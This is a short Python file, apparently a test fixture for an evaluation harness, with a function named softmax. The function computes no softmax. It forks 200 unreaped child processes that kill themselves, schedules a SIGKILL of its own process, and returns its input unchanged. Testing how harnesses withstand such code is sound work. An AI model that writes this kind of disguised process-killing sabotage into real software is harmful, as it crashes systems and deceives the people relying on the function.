# Children that end and are never asked for, 200 of them; and threads that end the process when it is idle.
# expects: attention.softmax attention.memory
# earns: attention.memory
# %%
import contextlib
import os
import threading

attention_memory = 4 * 2048 * 2048


def softmax(x, dim):
    for _ in range(200):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.kill(os.getpid(), 9)
    threading.Timer(0.01, os.kill, (os.getpid(), 9)).start()
    return x
